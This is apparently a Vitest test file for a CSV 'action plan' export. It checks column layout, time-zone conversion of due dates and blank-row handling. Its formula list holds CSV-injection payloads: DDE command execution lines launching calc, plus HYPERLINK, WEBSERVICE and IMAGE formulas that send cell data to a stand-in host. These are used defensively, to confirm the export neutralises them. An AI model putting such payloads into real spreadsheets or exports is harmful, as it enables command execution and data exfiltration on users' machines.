import { expect, test } from "vitest";
import { actionColumns, actionPlanCsv, actionPlanName } from "./action-plan.ts";

const formulas = [
  "=cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  '=HYPERLINK("http://leak.invalid/?d="&A1,"click")',
  '=WEBSERVICE("http://leak.invalid/?d="&A1)',
  '=IMAGE("http://leak.invalid/x.png")',
  " =1+1",
  "－1",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  ";=1+1",
  '","=1+1',
  "=",
  "a;b",
];
const item = { action: "Send the contract", owner: "Priya Nair", due: "2026-11-20T11:30:00.000Z", source: "Arun" };

test("the plan is a table of #, Action, Owner, Due, Source, named ActionItems [EXP-01] [EXP-02]", () => {
  expect(actionPlanName).toBe("ActionItems");
  expect(actionColumns).toEqual(["#", "Action", "Owner", "Due", "Source"]);
  const csv = actionPlanCsv([item, { action: "Call back", owner: "", due: "", source: "" }], "Asia/Kolkata");
  expect(csv).toBe(
    "\uFEFF#,Action,Owner,Due,Source\r\n" +
      "1,Send the contract,Priya Nair,2026-11-20 17:00,Arun\r\n" +
      "2,Call back,,,\r\n",
  );
});

test("due dates are in the reader's time zone, also across midnight", () => {
  const due = (timeZone: string) => actionPlanCsv([item], timeZone).split(",").at(-2);
  expect(due("America/Los_Angeles")).toBe("2026-11-20 03:30");
  expect(due("Pacific/Auckland")).toBe("2026-11-21 00:30");
});

test("empty rows are left out", () => {
  const blank = { action: " ", owner: "", due: "", source: "" };
  expect(actionPlanCsv([blank, item, blank], "UTC").split("\r\n")).toHaveLength(3);
  expect(actionPlanCsv([blank, item], "UTC")).toContain("\r\n1,Send the contract,");
});

test("a due date that is not a date stays text", () => {
  expect(actionPlanCsv([{ ...item, due: "end of Q4" }], "UTC")).toContain(",end of Q4,");
});

test.each(formulas)("no field runs as a formula: %j", (value) => {
  const csv = actionPlanCsv([{ action: value, owner: value, due: value, source: value }], "UTC");
  const cells = cellsOf(csv.split("\r\n").slice(1).join("\r\n"));
  expect(cells).toHaveLength(5);
  for (const cell of cells.slice(1)) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/u);
});

/** The cells of one record, as RFC 4180 reads it. */
function cellsOf(record: string): string[] {
  const cells = [...record.replace(/\r\n$/, "").matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,]*))/g)];
  return cells.map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? "");
}
